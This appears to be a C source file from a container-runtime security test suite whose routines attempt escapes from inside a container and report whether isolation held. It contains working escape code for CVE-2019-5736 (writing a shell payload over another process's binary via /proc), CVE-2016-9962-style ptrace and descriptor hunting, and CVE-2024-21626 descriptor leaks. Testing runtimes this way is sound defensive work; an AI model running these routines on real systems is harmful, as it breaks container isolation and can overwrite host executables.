/* Attacks on the runtime's own process, seen from inside: its binary, its descriptors, its privileges. */
#include "attack.h"

#include <dirent.h>
#include <sched.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/wait.h>

static int is_number(const char* text) { return text[0] >= '0' && text[0] <= '9'; }

/* CVE-2019-5736. hold-exe SECONDS: opens /proc/PID/exe of every process that comes by and, once that may be
   possible, writes to it. A file of the container itself is not worth it: those have a path here. */
ATTACK(hold_exe) {
  const double until = seconds_now() + (argc > 1 ? atof(argv[1]) : 1);
  int fds[256];
  int count = 0, seen = 0, attempts = 0;
  struct stat own;
  if (stat("/proc/self/exe", &own) < 0) return broken("stat self");
  printf("ready\n");
  fflush(stdout);
  while (seconds_now() < until) {
    DIR* proc = opendir("/proc");
    if (proc == NULL) return broken("/proc");
    const struct dirent* entry;
    while ((entry = readdir(proc)) != NULL) {
      if (!is_number(entry->d_name)) continue;
      char path[300];
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      const int fd = open(path, O_RDONLY | O_CLOEXEC);
      struct stat status;
      if (fd < 0) continue;
      if (fstat(fd, &status) < 0 || (status.st_ino == own.st_ino && status.st_dev == own.st_dev) || count == 256) {
        close(fd);
        continue;
      }
      int known = 0;
      for (int i = 0; i < count && !known; ++i) {
        struct stat other;
        known = fstat(fds[i], &other) == 0 && other.st_ino == status.st_ino && other.st_dev == status.st_dev;
      }
      ++seen;
      if (known) {
        close(fd);
      } else {
        fds[count++] = fd;
      }
    }
    closedir(proc);
    for (int i = 0; i < count; ++i) {
      char path[64], target[512] = "";
      snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
      if (readlink(path, target, sizeof target - 1) > 0 && access(target, F_OK) == 0) continue;
      ++attempts;
      const int out = open(path, O_WRONLY | O_CLOEXEC);
      if (out < 0) continue;
      static const char kPayload[] = "#!/bin/sh\necho overwritten\n";
      const ssize_t written = write(out, kPayload, sizeof kPayload - 1);
      close(out);
      if (written > 0) return escaped("wrote to %s", target);
    }
  }
  return held("programs seen %d, attempts to write %d", seen, attempts);
}

/* A control, run on the host: naive-enter PID MODE PROGRAM [ARGUMENT...]: enters a container as a runtime of old
   did. MODE "leak" keeps a descriptor of the host's root as number 7, "plain" does not. */
ATTACK(naive_enter) {
  if (argc < 4) return broken("arguments");
  const char* kinds[] = {"pid", "mnt"};
  int fds[2];
  for (int i = 0; i < 2; ++i) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/ns/%s", argv[1], kinds[i]);
    if ((fds[i] = open(path, O_RDONLY | O_CLOEXEC)) < 0) return broken(path);
  }
  if (strcmp(argv[2], "leak") == 0) {
    const int host = open("/", O_RDONLY | O_DIRECTORY);
    if (host < 0 || dup2(host, 7) < 0) return broken("leak");
  }
  if (setns(fds[0], CLONE_NEWPID) < 0) return broken("setns pid");
  const pid_t child = fork();
  if (child == 0) {
    if (setns(fds[1], CLONE_NEWNS) < 0) _exit(1);
    usleep(200 * 1000); /* as long as a runtime takes to set up */
    if (strcmp(argv[2], "leak") == 0 && chdir("/proc/self/fd/7") < 0) _exit(1);
    execv(argv[3], argv + 3);
    _exit(1);
  }
  int status = 0;
  waitpid(child, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : kBroken;
}

/* Tries to get out by a descriptor: to a file that only the host has. */
static int leads_out(const char* link, const char* secret) {
  struct stat status;
  if (stat(link, &status) < 0 || !S_ISDIR(status.st_mode)) return 0;
  char path[1200];
  snprintf(path, sizeof path, "%s/../../../../../../../../../..%s", link, secret);
  return access(path, F_OK) == 0;
}

/* CVE-2016-9962 and its kind. hunt SECONDS SECRET: looks at every process that appears, as early as it can: does
   it hold privileges that this one does not have, or a descriptor that leads to the host, can it be traced? */
ATTACK(hunt) {
  if (argc < 3) return broken("arguments");
  const double until = seconds_now() + atof(argv[1]);
  int last = getpid(), seen = 0, traced = 0;
  printf("ready\n");
  fflush(stdout);
  char exe[512];
  while (seconds_now() < until) {
    for (int pid = last + 1; pid < last + 4; ++pid) {
      char path[300];
      snprintf(path, sizeof path, "/proc/%d", pid);
      if (access(path, F_OK) < 0) continue;
      ++seen;
      if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        ++traced;
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        int status;
        waitpid(pid, &status, __WALL);
      }
      snprintf(path, sizeof path, "/proc/%d/status", pid);
      if (has_more_capabilities(path)) return escaped("process %d has more capabilities", pid);
      snprintf(path, sizeof path, "/proc/%d/root", pid);
      if (leads_out(path, argv[2])) return escaped("%s is the host's", path);
      snprintf(path, sizeof path, "/proc/%d/cwd", pid);
      if (leads_out(path, argv[2])) return escaped("%s leads out", path);
      snprintf(path, sizeof path, "/proc/%d/exe", pid);
      const ssize_t length = readlink(path, exe, sizeof exe - 1);
      if (length > 0) {
        exe[length] = '\0';
        if (strstr(exe, "runtime") != NULL || strstr(exe, "shim") != NULL) return escaped("%s is %s", path, exe);
      }
      snprintf(path, sizeof path, "/proc/%d/fd", pid);
      DIR* dir = opendir(path);
      const struct dirent* entry;
      while (dir != NULL && (entry = readdir(dir)) != NULL) {
        char link[600];
        snprintf(link, sizeof link, "/proc/%d/fd/%s", pid, entry->d_name);
        if (leads_out(link, argv[2])) return escaped("%s leads out", link);
      }
      if (dir != NULL) closedir(dir);
      ptrace(PTRACE_DETACH, pid, 0, 0);
      last = pid;
      break;
    }
  }
  return held("processes seen %d, traced %d", seen, traced);
}

/* stop-newcomers SECONDS: sends SIGSTOP to every new process, before it can execute its program. */
ATTACK(stop_newcomers) {
  const double until = seconds_now() + (argc > 1 ? atof(argv[1]) : 1);
  int last = getpid(), stopped = 0;
  printf("ready\n");
  fflush(stdout);
  while (seconds_now() < until) {
    for (int pid = last + 1; pid < last + 4; ++pid) {
      if (kill(pid, SIGSTOP) < 0) continue;
      ++stopped;
      last = pid;
      break;
    }
  }
  return held("stopped %d", stopped);
}

/* CVE-2024-21626. list-descriptors PID SECRET: prints where each descriptor of PID ("self") leads. */
ATTACK(list_descriptors) {
  if (argc < 3) return broken("arguments");
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/fd", argv[1]);
  DIR* dir = opendir(path);
  if (dir == NULL) return held("%s: %s", path, strerror(errno));
  int count = 0;
  const struct dirent* entry;
  while ((entry = readdir(dir)) != NULL) {
    if (!is_number(entry->d_name)) continue;
    if (strcmp(argv[1], "self") == 0 && atoi(entry->d_name) == dirfd(dir)) continue;
    char link[600], target[512];
    snprintf(link, sizeof link, "/proc/%s/fd/%s", argv[1], entry->d_name);
    const ssize_t length = readlink(link, target, sizeof target - 1);
    if (length < 0) continue;
    target[length] = '\0';
    printf("fd %s %s\n", entry->d_name, target);
    if (leads_out(link, argv[2])) return escaped("descriptor %s is %s and leads to the host", entry->d_name, target);
    ++count;
  }
  return held("descriptors %d", count);
}

/* climb SECRET: is the host's file above the working directory? */
ATTACK(climb) {
  if (argc < 2) return broken("arguments");
  if (leads_out(".", argv[1])) return escaped("the working directory is the host's");
  char here[4096];
  return held("in %s", getcwd(here, sizeof here) == NULL ? "nowhere" : here);
}

ATTACK(capabilities) {
  (void)argc;
  (void)argv;
  char text[8192];
  slurp("/proc/self/status", text, sizeof text);
  for (char* line = strtok(text, "\n"); line != NULL; line = strtok(NULL, "\n")) {
    if (strncmp(line, "Cap", 3) == 0 || strncmp(line, "NoNewPrivs", 10) == 0 || strncmp(line, "Seccomp:", 8) == 0 ||
        strncmp(line, "Uid", 3) == 0 || strncmp(line, "Groups", 6) == 0) {
      printf("%s\n", line);
    }
  }
  return kHeld;
}
